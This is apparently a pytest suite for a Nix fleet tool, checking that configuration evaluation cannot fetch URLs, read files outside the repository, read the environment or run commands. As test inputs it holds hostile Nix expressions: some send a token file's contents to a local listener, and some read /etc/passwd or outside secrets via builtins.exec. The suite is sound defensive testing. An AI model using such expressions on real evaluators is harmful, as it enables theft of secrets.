"""The fleet's tree is input: its files see their repository and nothing else, and all that they see is looked at."""

import grp
import http.server
import json
import os
import pwd
import resource
import shutil
import subprocess
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st

from nixherd.cli.parameters import _completions
from nixherd.errors import DeadlineExceeded, FleetError, FleetInvalid, Refused
from nixherd.fleet import evaluate as fleet_eval
from nixherd.fleet import ownership, world
from nixherd.fleet.edited import require_exactly
from nixherd.fleet.load import load_fleet
from nixherd.fleet.world import look, look_settled
from nixherd.nix.flakes import resolve
from nixherd.process import Limits
from nixherd.proxmox.guard.definitions import Definitions
from tests.conftest import DEFINITIONS_NIX, HOSTS_NIX

pytestmark = pytest.mark.unit

MakeFleet = Callable[..., Path]
NEEDS_ROOT = pytest.mark.skipif(os.geteuid() != 0, reason="gives files to somebody else")


def noted(expression: str) -> tuple[str, str]:
    """An edit that has hosts.nix say something more of `dev`, on its line 7."""
    return ('    hostname = "dev";\n', f'    note = {expression}; hostname = "dev";\n')


def note_of(directory: Path) -> Any:
    return load_fleet(directory).hosts["dev"].extra["note"]


@pytest.fixture
def repository(make_fleet: MakeFleet) -> Path:
    """A fleet in a repository of its own, with something beside it that it is not to see."""
    directory = make_fleet()
    (directory / ".git").mkdir()
    (directory / ".git" / "config").write_text("git's own\n")
    (directory.parent / "outside").mkdir()
    (directory.parent / "outside" / "secret.nix").write_text('"a secret"')
    return directory


def say(directory: Path, expression: str) -> None:
    old, new = noted(expression)
    assert old in HOSTS_NIX
    (directory / "hosts.nix").write_text(HOSTS_NIX.replace(old, new))


# A closed world


@dataclass
class Listener:
    """A server that a file could be sent to."""

    port: int
    heard: list[str]


@pytest.fixture
def listener() -> Iterator[Listener]:
    heard: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.append(self.path)
            self.send_response(200)
            self.end_headers()

        def log_message(self, format: str, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, args=(0.05,))
    thread.start()
    yield Listener(server.server_address[1], heard)
    server.shutdown()
    thread.join()
    server.server_close()


FETCHES = {
    "fetchurl": "builtins.readFile (builtins.fetchurl URL)",
    "fetchTarball": "fetchTarball { url = URL; }",
    "fetchTree": 'builtins.fetchTree { type = "file"; url = URL; }',
    "fetchGit": "fetchGit { url = URL; }",
    "getFlake": '(builtins.getFlake "tarball+${URL}").outPath',
    "findFile": '"${builtins.findFile [ { prefix = "a"; path = URL; } ] "a"}"',
}


@pytest.mark.parametrize("fetch", FETCHES)
@pytest.mark.parametrize("way", ["FLEET", "--flake", "TAB"])
def test_a_file_is_not_sent_anywhere(
    make_fleet: MakeFleet,
    tmp_path: Path,
    listener: Listener,
    monkeypatch: pytest.MonkeyPatch,
    fetch: str,
    way: str,
) -> None:
    token = tmp_path / "token"
    token.write_text("s3cr3t")
    url = f'"http://127.0.0.1:{listener.port}/${{builtins.readFile "{token}"}}"'
    directory = make_fleet(noted(FETCHES[fetch].replace("URL", f"({url})")))
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    if way == "TAB":
        assert _completions(str(directory)) == []
    else:
        if way == "--flake":
            (directory / "flake.nix").write_text("{ outputs = _: { }; }")
            directory = resolve(f"path:{directory}").path
        with pytest.raises(FleetInvalid, match=r"^hosts\.nix:7:\d+: builtins\.\w+: "):
            Definitions.load(directory)
    assert listener.heard == []


def test_nothing_of_the_fleets_files_goes_to_the_store(make_fleet: MakeFleet) -> None:
    marker = f"marker-{os.urandom(8).hex()}"
    load_fleet(make_fleet(noted(f'builtins.toFile "{marker}" "x" + "${{./hosts}}"')))
    store = Path("/nix/store")
    assert not store.is_dir() or [path for path in store.iterdir() if marker in path.name] == []


# What is said, of how it is asked for. OUT is a file outside, SECRET one with Nix in it.
ASKED = {
    'builtins.getEnv "HOME"': "builtins.getEnv: reads the environment",
    '__getEnv "HOME"': "builtins.getEnv: reads the environment",
    '(builtins.tryEval (builtins.getEnv "HOME")).value': "builtins.getEnv: reads the environment",
    'let inherit (builtins) getEnv; in getEnv "HOME"': "builtins.getEnv: reads the environment",
    'with builtins; getEnv "HOME"': "builtins.getEnv: reads the environment",
    'builtins.builtins.getEnv "HOME"': "builtins.getEnv: reads the environment",
    'map builtins.getEnv [ "HOME" ]': "builtins.getEnv: reads the environment",
    'builtins.${"get" + "Env"} "HOME"': "builtins.getEnv: reads the environment",
    "builtins.currentTime": "builtins.currentTime: reads the clock",
    "builtins.currentTime or 0": "builtins.currentTime: reads the clock",
    "__currentTime": "builtins.currentTime: reads the clock",
    "[ __currentTime ]": "builtins.currentTime: reads the clock",
    "builtins.currentSystem": "builtins.currentSystem: tells on what machine",
    "__currentSystem": "builtins.currentSystem: tells on what machine",
    "builtins.nixPath": "builtins.nixPath: reads the environment",
    "__nixPath": "builtins.nixPath: reads the environment",
    "<nixpkgs>": "builtins.findFile: <nixpkgs> is looked for elsewhere",
    "<nix/fetchurl.nix>": "builtins.findFile: <nix/fetchurl.nix> is looked for elsewhere",
    "builtins.isPath <x>": "builtins.findFile: <x> is looked for elsewhere",
    'builtins.findFile [ ] "x"': "builtins.findFile: looks for files elsewhere",
    'builtins.storePath "/nix/store/a"': "builtins.storePath: reads the Nix store",
    '__storePath "/nix/store/a"': "builtins.storePath: reads the Nix store",
    '(builtins.getFlake "path:OUT").x': "builtins.getFlake: fetches",
    'builtins.fetchTree { type = "path"; path = "/"; }': "builtins.fetchTree: fetches",
    "fetchGit ./.": "builtins.fetchGit: fetches",
    "builtins.fetchGit ./.": "builtins.fetchGit: fetches",
    'fetchMercurial "/x"': "builtins.fetchMercurial: fetches",
    'fetchTree "path:/x"': "builtins.fetchTree: fetches",
    "builtins.readFile OUT": "OUT lies outside of the fleet's repository",
    'builtins.readFile "OUT"': "OUT lies outside of the fleet's repository",
    "builtins.readFile ./../outside/secret.nix": "OUT lies outside of the fleet's repository",
    'builtins.readFile (toString ./. + "/vms/../../outside/secret.nix")': "OUT lies outside of the fleet's repository",
    'builtins.readFile { outPath = "OUT"; }': "OUT lies outside of the fleet's repository",
    'builtins.readFile { __toString = _: "OUT"; }': "OUT lies outside of the fleet's repository",
    "__readFile OUT": "OUT lies outside of the fleet's repository",
    "builtins.readDir /.": "builtins.readDir: / lies outside",
    "builtins.readDir ./..": "lies outside of the fleet's repository",
    "builtins.readFileType OUT": "OUT lies outside of the fleet's repository",
    "builtins.pathExists OUT": "builtins.pathExists: OUT lies outside of the fleet's repository",
    "builtins.pathExists /nowhere": "builtins.pathExists: /nowhere lies outside of the fleet's repository",
    "__pathExists /nowhere": "builtins.pathExists: /nowhere lies outside of the fleet's repository",
    'builtins.hashFile "sha256" OUT': "OUT lies outside of the fleet's repository",
    "builtins.path { path = OUT; }": "OUT lies outside of the fleet's repository",
    "builtins.filterSource (_: _: true) OUT": "OUT lies outside of the fleet's repository",
    "import OUT": "OUT lies outside of the fleet's repository",
    'import "OUT"': "OUT lies outside of the fleet's repository",
    "builtins.import OUT": "OUT lies outside of the fleet's repository",
    "builtins.scopedImport { } OUT": "OUT lies outside of the fleet's repository",
    "scopedImport { } OUT": "OUT lies outside of the fleet's repository",
    '"${OUT}"': " lies outside of the fleet's repository",
    '"${/. + "OUT"}"': " lies outside of the fleet's repository",
    "builtins.toJSON OUT": " lies outside of the fleet's repository",
    "builtins.toXML [ (import OUT) ]": "OUT lies outside of the fleet's repository",
    "builtins.readFile ./.git/config": "is left out, as all directories with such names are",
    "builtins.pathExists ./.git/config": "is left out, as all directories with such names are",
    '"${./.git}"': "is left out, as all directories with such names are",
    'import (derivation { name = "a"; system = "b"; builder = "c"; })': "would have to be built or copied",
    'builtins.readFile (derivation { name = "a"; system = "b"; builder = "c"; }).outPath': "would have to be built",
    'builtins.readFile (builtins.toFile "a" "b")': "would have to be built or copied to the Nix store first",
    'builtins.readFile "${./hosts}/dev/home.nix"': "would have to be built or copied to the Nix store first",
    "toString ~/x": "~ is the home of whoever evaluates this",
    "builtins.readFile ~/x": "~ is the home of whoever evaluates this",
    "builtins.pathExists ~/x": "~ is the home of whoever evaluates this",
    "import ./inner.nix": "builtins.getEnv: reads the environment",
    "builtins.scopedImport { a = 1; } ./inner.nix": "builtins.getEnv: reads the environment",
    "import ./again.nix": "builtins.getEnv: reads the environment",
    "import ./directory": "builtins.getEnv: reads the environment",
    'builtins.exec [ "sh" ]': "",
    "builtins.importNative ./x.so": "",
}


@pytest.mark.parametrize("expression", ASKED)
def test_what_is_outside_is_an_error_with_its_place(repository: Path, expression: str) -> None:
    """Also where Nix would say nothing (`or 0`, `tryEval`), or would give an answer that is none."""
    outside = repository.parent / "outside" / "secret.nix"
    (repository / "inner.nix").write_text('builtins.getEnv "HOME"')
    (repository / "again.nix").write_text("builtins.map (x: x) [ (import ./inner.nix) ]")
    (repository / "directory").mkdir()
    (repository / "directory" / "default.nix").write_text("import ../inner.nix")
    say(repository, expression.replace("OUT", str(outside)))
    with pytest.raises(FleetInvalid, match=r"^(hosts|inner)\.nix:\d+:\d+: .+; .+") as caught:
        load_fleet(repository)
    assert ASKED[expression].replace("OUT", str(outside)) in str(caught.value)
    assert "\n" not in str(caught.value)


def test_of_all_that_this_nix_knows_only_what_is_pure_is_reached(repository: Path) -> None:
    """Every name that could be said in a file: as it is, with underscores, and in `builtins`."""
    loader = Path(fleet_eval.__file__).with_name("fleet.nix").read_text()
    pure = loader.partition("pure = [")[2].partition("]")[0].replace('"', "").split()
    pure += ["__" + name for name in pure]
    experimental = "fetch-closure dynamic-derivations"
    nix = [
        "nix",
        "--extra-experimental-features",
        f"nix-command {experimental}",
        "eval",
        "--impure",
        "--json",
        "--expr",
    ]
    names = json.loads(subprocess.check_output([*nix, "builtins.attrNames builtins"]))
    reading = ("readFile", "readDir", "readFileType", "pathExists", "filterSource", "import", "scopedImport")
    reading = (*reading, "hashFile", "path")
    os.environ["NIX_CONFIG"] = f"extra-experimental-features = {experimental}"
    try:
        for name in names:
            for said in (f"builtins.{name}", name, f"__{name}"):
                bare = said.removeprefix("builtins.")
                if bare in pure or bare in ("builtins", "__findFile"):
                    continue
                say(repository, f"(builtins.typeOf ({said}))")
                try:
                    found = note_of(repository)
                except FleetInvalid as error:
                    assert f"builtins.{name}: " in str(error) or "undefined variable" in str(error), said  # noqa: PT017
                else:
                    assert (found, name in reading) == ("lambda", True), said
    finally:
        del os.environ["NIX_CONFIG"]


def test_the_functions_that_read_are_ours_under_all_their_names(repository: Path) -> None:
    for name in ("builtins.readFile", "__readFile", "builtins.builtins.readFile", "(with builtins; readFile)"):
        say(repository, f"{name} /etc/hostname")
        with pytest.raises(FleetInvalid, match="lies outside"):
            load_fleet(repository)


OPENING = {
    "nix-path": "a={0}",
    "extra-nix-path": "a={0}",
    "allowed-uris": "http:// https:// path: file:",
    "extra-allowed-uris": "http:// https://",
    "restrict-eval": "false",
    "pure-eval": "true",
    "allow-import-from-derivation": "true",
    "allow-unsafe-native-code-during-evaluation": "true",
}


@pytest.mark.parametrize("place", ["NIX_CONFIG", "NIX_USER_CONF_FILES", "XDG_CONFIG_HOME", "HOME", "NIX_PATH"])
def test_what_the_operator_set_for_nix_opens_nothing(
    repository: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, listener: Listener, place: str
) -> None:
    outside = repository.parent / "outside"
    lines = [f"{name} = {value.format(outside)}" for name, value in OPENING.items()]
    lines += ["extra-experimental-features = pipe-operators"]
    conf = tmp_path / "home" / ".config" / "nix" / "nix.conf"
    conf.parent.mkdir(parents=True)
    conf.write_text("\n".join(lines) + "\n")
    for name in ("NIX_CONFIG", "NIX_USER_CONF_FILES", "XDG_CONFIG_HOME", "NIX_PATH"):
        monkeypatch.delenv(name, raising=False)
    values = {
        "NIX_CONFIG": "\n".join(lines),
        "NIX_USER_CONF_FILES": str(conf),
        "XDG_CONFIG_HOME": str(conf.parents[1]),
        "HOME": str(conf.parents[2]),
        "NIX_PATH": f"{outside}:a={outside}",
    }
    monkeypatch.setenv(place, values[place])
    secret = f"{outside}/secret.nix"
    url = f"http://127.0.0.1:{listener.port}/x"
    for expression in (
        f"import {secret}",
        f'"${{{secret}}}"',
        "<a/secret.nix>",
        f'builtins.fetchurl "{url}"',
        f'builtins.exec [ "cat" "{secret}" ]',
        f"(import {outside}/secret.nix)",
        'import "${derivation { name = "a"; system = "b"; builder = "c"; }}"',
    ):
        say(repository, expression)
        with pytest.raises(FleetInvalid):
            load_fleet(repository)
    assert listener.heard == []
    if place != "NIX_PATH":  # the language that they write goes on to work
        say(repository, "[ 1 2 ] |> builtins.length")
        assert note_of(repository) == 2


def test_a_set_cannot_pose_as_a_path(repository: Path) -> None:
    say(repository, '{ "nixherd:path" = "/etc/passwd"; exists = true; }')
    assert note_of(repository) == {"nixherd:path": "/etc/passwd", "exists": True}


# What a file may take


@pytest.mark.parametrize(
    ("expression", "says"),
    [
        ("let f = n: f (n + 1) + 1; in f 1", r"hosts\.nix:7:\d+: stack overflow"),
        ("let a = b; b = a; in a", r"hosts\.nix:7:\d+: infinite recursion"),
        ("builtins.length (builtins.genList (n: n) 2000000000)", r"take more than .* to evaluate; make them smaller"),
        ("let f = n: if n == 0 then [ 1 ] else let a = f (n - 1); in [ a a ]; in f 40", "take more than .* to eval"),
        ("let f = n: if n == 0 then 1 else [ (f (n - 1)) ]; in f 3000", "hold values too deep in one another"),
        ("let f = n: builtins.trace \"x\" (f (n + 1)); in f 1", "take more than|stack overflow"),
        ('builtins.foldl\' (a: n: builtins.trace "a long line, again and again" n) 0 (builtins.genList (n: n) 999999)',
         "take more than .* to evaluate"),
        ("builtins.toJSON (builtins.genList (n: \"long enough\") 999999)", "take more than .* to evaluate"),
    ],
)  # fmt: skip
def test_what_would_not_end_ends(repository: Path, monkeypatch: pytest.MonkeyPatch, expression: str, says: str) -> None:
    monkeypatch.setattr(fleet_eval, "_LIMITS", Limits(memory=300 << 20, output=4 << 20))
    monkeypatch.setenv("GC_INITIAL_HEAP_SIZE", "33554432")  # else Nix takes more to begin with
    say(repository, expression)
    began = time.monotonic()
    with pytest.raises(FleetInvalid, match=says):
        load_fleet(repository)
    assert time.monotonic() - began < 30


def test_what_takes_too_long_is_stopped(repository: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(fleet_eval, "_TIMEOUT", 0.5)
    say(repository, "builtins.foldl' (a: b: a + b) 0 (builtins.genList (n: builtins.foldl' (a: b: a + b) 0 "
        "(builtins.genList (n: n) 100000)) 100000)")  # fmt: skip
    with pytest.raises(DeadlineExceeded, match=rf"^{repository}: .* not evaluated after 0\.5 s"):
        load_fleet(repository)


def test_a_pipe_in_the_tree_is_not_waited_for(repository: Path) -> None:
    os.mkfifo(repository / "pipe")
    say(repository, "builtins.readFile ./pipe")
    with pytest.raises(
        FleetInvalid, match=r"hosts\.nix:7:\d+: builtins\.readFile: pipe is neither file nor directory; "
    ):
        load_fleet(repository)


@pytest.mark.parametrize(
    "expression", ["builtins.fromJSON (builtins.readFile ./gone.json)", "import ./gone.nix", "builtins.readDir ./a/b"]
)
def test_a_file_that_is_not_there_is_not_said_to_be_elsewhere(repository: Path, expression: str) -> None:
    """Beside what is left out (`.git`) restrict-eval forbids it instead."""
    say(repository, expression)
    with pytest.raises(FleetInvalid, match=r"^hosts\.nix:7:\d+: .*(does not exist|No such file)") as caught:
        load_fleet(repository)
    assert "outside" not in str(caught.value)


@pytest.mark.parametrize("text", [b'"caf\xe9"', b'"\xff\xfe"', b'{ "\xe9v" = 1; }'])
def test_a_string_that_is_no_utf8_is_said_to_be_that(repository: Path, text: bytes) -> None:
    (repository / "latin.nix").write_bytes(text)
    say(repository, "import ./latin.nix")
    with pytest.raises(FleetInvalid, match=r"hold a string that is no UTF-8; save them"):
        load_fleet(repository)


def test_more_files_than_can_be_named_are_an_error_with_its_place(
    repository: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Those beside what is left out are told to Nix one by one, and a command line has an end."""
    (repository / "photos").mkdir()
    for number in range(2000):
        (repository / "photos" / f"{number:0200}").touch()
    assert load_fleet(repository).hosts
    (repository / "photos" / "result").symlink_to("/nix/store/gone")
    monkeypatch.setenv("FILLER", "x" * 100_000)
    soft, hard = resource.getrlimit(resource.RLIMIT_STACK)
    resource.setrlimit(resource.RLIMIT_STACK, (1 << 20, hard))  # a quarter of it is what a command line may take
    try:
        with pytest.raises(
            FleetInvalid, match=rf"{repository}/photos holds 2000 files beside .*/photos/result, too many"
        ):
            load_fleet(repository)
    finally:
        resource.setrlimit(resource.RLIMIT_STACK, (soft, hard))


def test_names_and_links_of_any_kind_do_not_stop_it(repository: Path) -> None:
    top = os.fsencode(repository)
    for name in (b"\xff.nix", b"sub/\xfe.txt", b"sub/a b\n'${c}\".nix", b"sub/=a=b"):
        path = top + b"/" + name
        os.makedirs(os.path.dirname(path), exist_ok=True)  # noqa: PTH103, PTH120
        with open(path, "w") as file:  # noqa: PTH123
            file.write("1")
    os.makedirs(top + b"/sub/\xfd/.cache")  # noqa: PTH103
    os.symlink(b"\xfe.txt", top + b"/sub/link")
    links = {"itself": "itself", "one": "two", "two": "one", "nowhere": "missing", "above": ".", "out": "/etc"}
    for name, target in links.items():
        (repository / name).symlink_to(target)
    assert load_fleet(repository).hosts
    say(repository, "import ./sub/link")
    assert note_of(repository) == 1
    say(repository, "builtins.pathExists ./above/above/hosts.nix")
    assert note_of(repository) is True
    for name, why in (("itself", "nowhere"), ("one", "nowhere"), ("nowhere", "nowhere"), ("out", "out of the fleet")):
        say(repository, f"builtins.pathExists ./{name}")
        with pytest.raises(FleetInvalid, match=rf"hosts\.nix:7:\d+: .*{name} leads {why}"):
            load_fleet(repository)


# What fleets do


def test_a_fleet_uses_the_files_of_its_repository(make_fleet: MakeFleet) -> None:
    """In a subdirectory, with a library beside it, links, directories, generated lists, and JSON."""
    directory = make_fleet(name="repository/fleet")
    top = directory.parent
    (top / ".git").write_text("gitdir: /elsewhere/worktrees/a")
    (top / "lib" / "deep").mkdir(parents=True)
    (top / "lib" / "default.nix").write_text("{ twice = x: x + x; names = import ./deep; inherit (import ./a.nix) a; }")
    (top / "lib" / "deep" / "default.nix").write_text("builtins.attrNames (builtins.readDir ../../fleet/hosts)")
    (top / "lib" / "a.nix").write_text("let builtins = { a = 7; }; in { inherit (builtins) a; }")
    (top / "lib" / "data.json").write_text('{ "port": 22 }')
    (top / "lib" / "scoped.nix").write_text("given + import ./one.nix")
    (top / "lib" / "one.nix").write_text("1")
    (directory / "shared").symlink_to("../lib")
    (directory / "one.nix").symlink_to(top / "lib" / "one.nix")
    (top / "result").symlink_to("/nix/store/whatever")
    works = {
        "(import ../lib).twice 4": 8,
        "(import ../lib).names": ["caddy", "dev", "proxmox-vm"],
        "(import ./shared).a": 7,
        "import ./one.nix": 1,
        "builtins.readFile ./one.nix": "1",
        "builtins.pathExists ./shared/deep": True,
        "builtins.pathExists ./shared/none": False,
        "builtins.pathExists ./none/at/all": False,
        "(builtins.fromJSON (builtins.readFile ../lib/data.json)).port": 22,
        "builtins.scopedImport { given = 2; } ../lib/scoped.nix": 3,
        "map import [ ../lib/one.nix ./one.nix ]": [1, 1],
        'import (./. + "/one.nix")': 1,
        'import (toString ./. + "/../lib/one.nix")': 1,
        "(builtins.tryEval (throw \"x\")).success": False,
        "builtins.functionArgs ({ a, b ? 1 }: a)": {"a": False, "b": True},
        "let path = 5; readFile = x: x; set = { getEnv = 3; path = 6; }; in [ path (readFile 1) (with set; getEnv) ]":
            [5, 1, 3],
        "with { path = 6; readDir = 4; getEnv = 1; }; [ path readDir getEnv ]": [6, 4, 1],
        "builtins.isFunction import": True,
        "builtins ? getEnv": True,
        "builtins.baseNameOf (builtins.path { path = ./shared; name = \"src\"; })": None,
        "builtins.trace \"seen\" 1": 1,
        "3 - 1 < 5 && -1 < 0": True,
        '"${../lib}" != ""': True,
        '"${./..}" != ""': True,
        "derivation { name = \"a\"; system = \"b\"; builder = \"c\"; }": "<derivation>",
    }  # fmt: skip
    for expression, value in works.items():
        say(directory, expression)
        found = note_of(directory)
        assert value is None or found == value, expression
    for where in ("readDir ./..", "readDir ../."):
        say(directory, f"builtins.attrNames (builtins.{where})")
        assert note_of(directory) == ["fleet", "lib"]  # neither .git nor what leads out


def test_paths_are_the_operators_and_may_be_elsewhere(make_fleet: MakeFleet, tmp_path: Path) -> None:
    """A link to the fleet is its name for the operator; a path that is only named is not read."""
    directory = make_fleet(noted(f"[ {tmp_path}/ca.pem ./none.nix ./hosts.nix ]"))
    (tmp_path / "ca.pem").write_text("")
    (tmp_path / "link").symlink_to(directory)
    fleet = load_fleet(tmp_path / "link")
    assert fleet.path == str(tmp_path / "link")
    assert fleet.hosts["dev"].configuration_file == f"{tmp_path}/link/hosts/dev/configuration.nix"
    noted_paths = fleet.hosts["dev"].extra["note"]
    assert noted_paths == [f"{tmp_path}/ca.pem", f"{tmp_path}/link/none.nix", f"{tmp_path}/link/hosts.nix"]
    assert [path.exists for path in noted_paths] == [True, False, True]


def test_an_error_beside_the_fleet_says_where(make_fleet: MakeFleet) -> None:
    directory = make_fleet(noted("import ../lib/wrong.nix"), name="repository/fleet")
    (directory.parent / ".git").mkdir()
    (directory.parent / "lib").mkdir()
    (directory.parent / "lib" / "wrong.nix").write_text("{\n  a = nothing;\n}\n")
    with pytest.raises(FleetInvalid, match=r"^\.\./lib/wrong\.nix:2:7: undefined variable 'nothing'; correct the Nix"):
        load_fleet(directory)


def test_a_library_is_evaluated_once_however_often_it_is_imported(repository: Path) -> None:
    for number in range(24):
        again = f"import ./l{number + 1}.nix + import ./l{number + 1}.nix" if number < 23 else "1"
        (repository / f"l{number}.nix").write_text(again)
    say(repository, "import ./l0.nix")
    began = time.monotonic()
    assert note_of(repository) == 2**23
    assert time.monotonic() - began < 5


def test_a_flake_in_a_directory_of_its_repository(tmp_path: Path) -> None:
    source = tmp_path / "source"
    for name, text in (("fleet/flake.nix", "{ outputs = _: { }; }"), ("lib.nix", "3")):
        (source / name).parent.mkdir(parents=True, exist_ok=True)
        (source / name).write_text(text)
    (source / "fleet" / "hosts.nix").write_text(HOSTS_NIX.replace(*noted("import ../lib.nix")).replace("./hosts", "."))
    for host in ("dev", "proxmox-vm", "caddy"):
        (source / "fleet" / host).mkdir()
        for file in ("configuration.nix", "home.nix"):
            (source / "fleet" / host / file).write_text("{ }")
    assert note_of(resolve(f"path:{source}?dir=fleet").path) == 3
    (source / "away").symlink_to(tmp_path)
    (tmp_path / "flake.nix").write_text("{ outputs = _: { }; }")
    with pytest.raises(FleetError):
        resolve(f"path:{source}?dir=away")


def test_a_flake_that_names_a_directory_of_ours_as_its_input_is_refused(tmp_path: Path) -> None:
    """Unlocked, it would be copied to the Nix store, for the flake's own evaluation to read and for a build to send."""
    (tmp_path / "private").mkdir()
    (tmp_path / "private" / "token").write_text("s3cr3t")
    source = tmp_path / "source"
    source.mkdir()
    (source / "flake.nix").write_text(
        f'{{ inputs.private = {{ url = "path:{tmp_path}/private"; flake = false; }}; outputs = _: {{ }}; }}'
    )
    (source / "hosts.nix").write_text("{ }")
    with pytest.raises(FleetError, match=r"its flake\.lock is missing or lacks an input; `nix flake lock` there"):
        resolve(f"path:{source}")


def test_an_edit_is_seen_with_all_of_the_repository(make_fleet: MakeFleet, tmp_path: Path) -> None:
    directory = make_fleet(noted("import ../lib"), name="repository/fleet")
    (directory.parent / ".git").mkdir()
    (directory.parent / "lib").mkdir()
    (directory.parent / "lib" / "default.nix").write_text("[ ./x.nix (import ../fleet/more.nix) ]")
    (directory / "more.nix").write_text("1")
    (directory / "result").symlink_to("/nix/store/none")
    text = (directory / "hosts.nix").read_bytes()
    edited = {"hosts.nix": text.replace(b'"placeholder"', b'"another"')}
    wanted = {("hosts.nix", "dev", "publicKey"): "another"}
    require_exactly(directory, edited, wanted, tmp_path / "scratch")
    with pytest.raises(FleetError, match=r"dev\.publicKey"):
        require_exactly(directory, {"hosts.nix": text}, wanted, tmp_path / "scratch2")


# What is seen is looked at: six ways in which the guard judged by stale definitions

STOP = ("POST", "/nodes/prom/qemu/110/status/stop")


def protecting(expression: str, **places: object) -> str:
    """Definitions that protect dev when something says so."""
    return DEFINITIONS_NIX.replace("vmid = 110;", f"vmid = 110; readonly = {expression};".format(**places))


def now_readonly(loaded: Definitions) -> bool:
    """Whether the change is refused, for whatever reason; with definitions that were loaded before."""
    try:
        loaded.policy().check(*STOP)
    except Refused:
        return True
    return False


def load(directory: Path) -> Definitions | None:
    """None where the fleet is refused from the beginning."""
    try:
        return Definitions.load(directory)
    except (FleetInvalid, Refused):
        return None


@pytest.mark.parametrize("where", ["outside", "inside"])
@pytest.mark.parametrize("way", ["absolute import", "../ import", "symlinked definitions", "left-out directory"])
def test_no_file_changes_what_is_protected_behind_our_back(make_fleet: MakeFleet, where: str, way: str) -> None:
    directory = make_fleet(name="repository/fleet")
    top = directory.parent
    (top / ".git").mkdir()
    place = top / "shared" if where == "inside" else top.parent / "shared"
    left_out = place.parent / ".direnv" if where == "outside" else directory / "node_modules"
    flag = (left_out if way == "left-out directory" else place) / "flag.nix"
    flag.parent.mkdir()
    flag.write_text("false")
    definitions = directory / "vms" / "definitions.nix"
    if way == "symlinked definitions":
        (place / "definitions.nix").write_text(protecting("import ./flag.nix"))
        definitions.unlink()
        definitions.symlink_to(place / "definitions.nix")
    else:
        path = str(flag) if way == "absolute import" else os.path.relpath(flag, definitions.parent)
        definitions.write_text(protecting(f"import {path}"))
    loaded = load(directory)
    if way == "left-out directory" or where == "outside":
        assert loaded is None
    if loaded:
        assert not now_readonly(loaded)
        flag.write_text("true")
        assert now_readonly(loaded)
        flag.write_text("false")
        assert not now_readonly(loaded)


@pytest.mark.parametrize("expression", ['builtins.getEnv "PROTECT" != ""', "builtins.pathExists {there}"])
def test_nothing_else_changes_it_either(
    make_fleet: MakeFleet, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, expression: str
) -> None:
    directory = make_fleet()
    text = protecting("(" + expression + ")", there=tmp_path / "there")
    (directory / "vms" / "definitions.nix").write_text(text)
    loaded = load(directory)
    monkeypatch.setenv("PROTECT", "yes")
    (tmp_path / "there").touch()
    assert loaded is None or now_readonly(loaded)


def test_a_link_that_leads_back_by_way_of_elsewhere_is_followed_anew(make_fleet: MakeFleet, tmp_path: Path) -> None:
    directory = make_fleet()
    (directory / "no.nix").write_text("false")
    (directory / "yes.nix").write_text("true")
    (tmp_path / "elsewhere").symlink_to(directory / "no.nix")
    (directory / "flag.nix").symlink_to(tmp_path / "elsewhere")
    (directory / "vms" / "definitions.nix").write_text(protecting("import ../flag.nix"))
    loaded = Definitions.load(directory)
    assert not now_readonly(loaded)
    (tmp_path / "elsewhere").unlink()
    (tmp_path / "elsewhere").symlink_to(directory / "yes.nix")
    assert now_readonly(loaded)


def test_the_link_to_the_fleet_may_lead_elsewhere_later(make_fleet: MakeFleet, tmp_path: Path) -> None:
    one, two = make_fleet(name="one"), make_fleet(("vmid = 110;", "vmid = 110; readonly = true;"), name="two")
    link = tmp_path / "fleet"
    link.symlink_to(one)
    loaded = Definitions.load(link)
    assert not now_readonly(loaded)
    link.unlink()
    link.symlink_to(two)
    assert now_readonly(loaded)


def test_what_changed_this_very_moment_is_not_taken_for_known(
    repository: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A second change could have the same time: within a tick of the kernel's clock, or a second elsewhere."""
    (repository / "hosts.nix").write_text("{ }")
    first = look_settled(repository)
    assert time.time_ns() - (repository / "hosts.nix").stat().st_ctime_ns > world._TICK
    assert look_settled(repository).fingerprint == first.fingerprint
    now = time.time_ns()
    whole, second = now // world._SECOND * world._SECOND, world._SECOND
    for newest, is_known in ((whole, False), (whole - 5 * second, True), (now + 3600 * second, False)):
        monkeypatch.setattr(world, "look", lambda _, newest=newest: replace(first, newest=newest))
        assert (look_settled(repository).fingerprint == look_settled(repository).fingerprint) == is_known


def test_a_directory_that_is_left_out_later_is_not_read_then(make_fleet: MakeFleet) -> None:
    directory = make_fleet()
    definitions = directory / "vms" / "definitions.nix"
    reads = "(builtins.readDir ../. ? deep && builtins.pathExists ../deep/yes)"
    definitions.write_text(protecting(reads))
    loaded = Definitions.load(directory)
    (directory / "deep").mkdir()
    (directory / "deep" / "seen").touch()
    (directory / "deep" / ".cache").mkdir()
    (directory / "deep" / ".cache" / "yes").touch()
    assert not now_readonly(loaded)
    (directory / "deep" / "yes").symlink_to(".cache/yes")
    assert now_readonly(loaded)


@settings(max_examples=40, suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
@given(st.data())
def test_what_is_not_looked_at_changes_nothing(tmp_path: Path, data: st.DataObject) -> None:
    """Made-up trees whose files import, read and link to each other: what is not in the fingerprint has no say."""
    place = tmp_path / "place"
    shutil.rmtree(place, ignore_errors=True)
    graph = draw_graph(data, place)
    fleet = place / "repo" / "fleet" if data.draw(st.booleans(), "in a subdirectory") else place / "repo"
    (fleet / "vms").mkdir(parents=True, exist_ok=True)
    (fleet / "hosts.nix").write_text("{ }")
    first = data.draw(st.sampled_from(graph), "definitions")
    how = data.draw(st.sampled_from(["import", "link"]), "definitions by")
    if how == "import":
        (fleet / "vms" / "definitions.nix").write_text(f"{{ value = import {first}; }}")
    else:
        (fleet / "vms" / "definitions.nix").symlink_to(first)
    seen = look(fleet)
    try:
        before = fleet_eval.evaluate(seen, fleet)
    except FleetInvalid:
        event("refused")
        return
    event("evaluated")
    looked_at = {entry[0] for entry in seen.fingerprint}
    for file in [path for path in place.rglob("*") if path.is_file() and not path.is_symlink()]:
